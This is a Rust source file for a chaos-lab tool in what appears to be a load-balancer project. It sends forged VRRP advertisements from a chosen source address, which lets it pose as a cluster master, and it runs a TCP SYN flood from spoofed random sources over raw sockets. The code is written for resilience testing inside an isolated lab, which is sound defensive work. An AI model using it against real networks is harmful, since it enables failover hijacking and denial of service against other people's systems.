//! A hostile host for the chaos lab (IPv4, raw sockets; run inside the hostile namespace).
//!
//! ```text
//! hostile adverts --vrid N --priority P --vips A[,B] --src IP --dst IP[,IP] [--count N]
//!                 [--interval-ms M] [--version 3|2] [--advert-cs C]
//! hostile syn-flood --dst IP --port P --count N [--pps R] [--seed S]
//! ```
//!
//! `adverts` crafts VRRP advertisements with the project's own codec and sends them with a
//! source address of our choosing (IP_HDRINCL), so it can pose as a cluster's master.
//! `syn-flood` sends TCP SYNs from random spoofed sources in 198.18.0.0/15 (the benchmarking
//! range, routed nowhere in the lab) and random ports: every SYN is a new flow for a load
//! balancer's connection table. Both print a JSON summary `{"sent", "errors"}`.

use std::net::{IpAddr, Ipv4Addr};

use anyhow::{Context, Result, bail};
use clap::{Parser, Subcommand};
use lb_userspace::vrrp::codec::{self, Advert, Auth, Version};

#[derive(Parser)]
#[command(about = "Hostile traffic for the chaos lab: spoofed VRRP adverts, SYN floods")]
struct Cli {
    #[command(subcommand)]
    cmd: Cmd,
}

#[derive(Subcommand)]
enum Cmd {
    Adverts {
        #[arg(long)]
        vrid: u8,
        #[arg(long)]
        priority: u8,
        /// Virtual addresses carried in the advert, comma separated.
        #[arg(long, value_delimiter = ',')]
        vips: Vec<Ipv4Addr>,
        /// Source address written into the IP header (may be someone else's).
        #[arg(long)]
        src: Ipv4Addr,
        /// Destinations, comma separated (224.0.0.18 for multicast).
        #[arg(long, value_delimiter = ',')]
        dst: Vec<Ipv4Addr>,
        #[arg(long, default_value_t = 20)]
        count: u32,
        #[arg(long, default_value_t = 100)]
        interval_ms: u64,
        #[arg(long, default_value_t = 3)]
        version: u8,
        /// Advertised interval in centiseconds.
        #[arg(long, default_value_t = 10)]
        advert_cs: u16,
    },
    SynFlood {
        #[arg(long)]
        dst: Ipv4Addr,
        #[arg(long)]
        port: u16,
        #[arg(long)]
        count: u64,
        /// Packets per second (0: as fast as the socket takes them).
        #[arg(long, default_value_t = 0)]
        pps: u64,
        #[arg(long, default_value_t = 1)]
        seed: u64,
    },
}

struct RawSocket(i32);

impl RawSocket {
    /// A raw IPv4 socket for `proto` whose packets carry our own IP header.
    fn new(proto: i32) -> Result<RawSocket> {
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, proto) };
        if fd < 0 {
            bail!("raw socket: {}", std::io::Error::last_os_error());
        }
        let one: libc::c_int = 1;
        let rc = unsafe {
            libc::setsockopt(
                fd,
                libc::IPPROTO_IP,
                libc::IP_HDRINCL,
                (&one as *const libc::c_int).cast(),
                std::mem::size_of::<libc::c_int>() as u32,
            )
        };
        if rc != 0 {
            bail!("IP_HDRINCL: {}", std::io::Error::last_os_error());
        }
        Ok(RawSocket(fd))
    }

    fn send(&self, packet: &[u8], dst: Ipv4Addr) -> std::io::Result<()> {
        let sa = libc::sockaddr_in {
            sin_family: libc::AF_INET as u16,
            sin_port: 0,
            sin_addr: libc::in_addr {
                s_addr: u32::from_ne_bytes(dst.octets()),
            },
            sin_zero: [0; 8],
        };
        let n = unsafe {
            libc::sendto(
                self.0,
                packet.as_ptr().cast(),
                packet.len(),
                0,
                (&sa as *const libc::sockaddr_in).cast(),
                std::mem::size_of::<libc::sockaddr_in>() as u32,
            )
        };
        if n < 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(())
    }
}

impl Drop for RawSocket {
    fn drop(&mut self) {
        unsafe { libc::close(self.0) };
    }
}

/// An IPv4 header (no options) in front of `payload`.
fn ipv4(src: Ipv4Addr, dst: Ipv4Addr, proto: u8, ttl: u8, tos: u8, payload: &[u8]) -> Vec<u8> {
    let total = (20 + payload.len()) as u16;
    let mut h = vec![0x45, tos];
    h.extend_from_slice(&total.to_be_bytes());
    h.extend_from_slice(&[0, 0, 0x40, 0, ttl, proto, 0, 0]);
    h.extend_from_slice(&src.octets());
    h.extend_from_slice(&dst.octets());
    let c = codec::checksum(&[&h]);
    h[10..12].copy_from_slice(&c.to_be_bytes());
    h.extend_from_slice(payload);
    h
}

/// A TCP SYN segment from `src:sport` to `dst:dport` with a valid checksum.
fn syn(src: Ipv4Addr, dst: Ipv4Addr, sport: u16, dport: u16, seq: u32) -> Vec<u8> {
    let mut t = Vec::with_capacity(20);
    t.extend_from_slice(&sport.to_be_bytes());
    t.extend_from_slice(&dport.to_be_bytes());
    t.extend_from_slice(&seq.to_be_bytes());
    t.extend_from_slice(&[0, 0, 0, 0, 0x50, 0x02, 0xfa, 0xf0, 0, 0, 0, 0]);
    let mut pseudo = Vec::with_capacity(12);
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, 6, 0, 20]);
    let c = codec::checksum(&[&pseudo, &t]);
    t[16..18].copy_from_slice(&c.to_be_bytes());
    t
}

fn xorshift(s: &mut u64) -> u64 {
    *s ^= *s << 13;
    *s ^= *s >> 7;
    *s ^= *s << 17;
    *s
}

fn main() -> Result<()> {
    let (sent, errors) = match Cli::parse().cmd {
        Cmd::Adverts {
            vrid,
            priority,
            vips,
            src,
            dst,
            count,
            interval_ms,
            version,
            advert_cs,
        } => {
            let sock = RawSocket::new(i32::from(codec::IPPROTO_VRRP))?;
            let advert = Advert {
                version: if version == 2 {
                    Version::V2
                } else {
                    Version::V3
                },
                vrid,
                priority,
                interval_cs: advert_cs,
                addrs: vips.iter().map(|a| IpAddr::V4(*a)).collect(),
                auth: Auth::None,
            };
            let (mut sent, mut errors) = (0u64, 0u64);
            for _ in 0..count {
                for d in &dst {
                    let payload = codec::encode(&advert, IpAddr::V4(src), IpAddr::V4(*d))
                        .map_err(|e| anyhow::anyhow!("encode: {e:?}"))?;
                    let pkt = ipv4(
                        src,
                        *d,
                        codec::IPPROTO_VRRP,
                        codec::VRRP_TTL,
                        codec::VRRP_TOS,
                        &payload,
                    );
                    match sock.send(&pkt, *d) {
                        Ok(()) => sent += 1,
                        Err(_) => errors += 1,
                    }
                }
                std::thread::sleep(std::time::Duration::from_millis(interval_ms));
            }
            (sent, errors)
        }
        Cmd::SynFlood {
            dst,
            port,
            count,
            pps,
            seed,
        } => {
            let sock = RawSocket::new(libc::IPPROTO_RAW).context("flood socket")?;
            let mut s = seed.max(1);
            let (mut sent, mut errors) = (0u64, 0u64);
            let start = std::time::Instant::now();
            for i in 0..count {
                // Paced in batches of 100 so the flood lasts count/pps seconds.
                if pps > 0 && i % 100 == 0 {
                    let due = std::time::Duration::from_secs_f64(i as f64 / pps as f64);
                    if let Some(wait) = due.checked_sub(start.elapsed()) {
                        std::thread::sleep(wait);
                    }
                }
                let r = xorshift(&mut s);
                // 198.18.0.0/15: the low 17 bits of r pick the host.
                let host = (r & 0x1_ffff) as u32;
                let src = Ipv4Addr::from(u32::from(Ipv4Addr::new(198, 18, 0, 0)) | host);
                let sport = 1024 + ((r >> 20) as u16 % 60000);
                let seg = syn(src, dst, sport, port, (r >> 32) as u32);
                let pkt = ipv4(src, dst, 6, 64, 0, &seg);
                match sock.send(&pkt, dst) {
                    Ok(()) => sent += 1,
                    // A full socket buffer: wait a moment rather than spin.
                    Err(_) => {
                        errors += 1;
                        std::thread::sleep(std::time::Duration::from_micros(200));
                    }
                }
            }
            (sent, errors)
        }
    };
    println!("{{\"sent\":{sent},\"errors\":{errors}}}");
    Ok(())
}
